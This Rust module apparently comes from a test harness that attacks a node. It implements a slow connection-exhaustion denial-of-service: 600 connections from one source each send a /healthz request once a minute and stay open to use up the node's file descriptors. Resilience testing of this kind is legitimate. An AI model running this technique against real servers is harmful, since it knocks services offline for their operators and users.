//! One source keeps connections of the HTTP port busy with a request a minute each.

use std::sync::Arc;
use std::time::Duration;

use anyhow::bail;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::peer::{SOURCE, dial, forever, together};
use super::victim::Target;

/// More connections than a node that may open 1024 files takes on.
const CONNECTIONS: usize = 600;
/// Between two requests of a connection.
const PAUSE: Duration = Duration::from_secs(60);

/// Attacks until it is dropped; counts requests that were sent.
pub async fn attack(target: Arc<Target>) -> anyhow::Result<()> {
    let one = |_| {
        let target = target.clone();
        async move { forever(async || hold(&target).await).await }
    };
    together(CONNECTIONS, one).await;
    Ok(())
}

/// Holds one connection until the node ends it.
async fn hold(target: &Target) -> anyhow::Result<()> {
    let mut stream = dial(SOURCE, target.http).await?;
    loop {
        stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: node\r\n\r\n").await?;
        target.count();
        if timeout(PAUSE, ended(&mut stream)).await.is_ok() {
            bail!("the node has ended the connection");
        }
    }
}

/// Reads answers until the connection ends.
async fn ended(stream: &mut TcpStream) {
    let mut answer = [0; 1024];
    while let Ok(1..) = stream.read(&mut answer).await {}
}
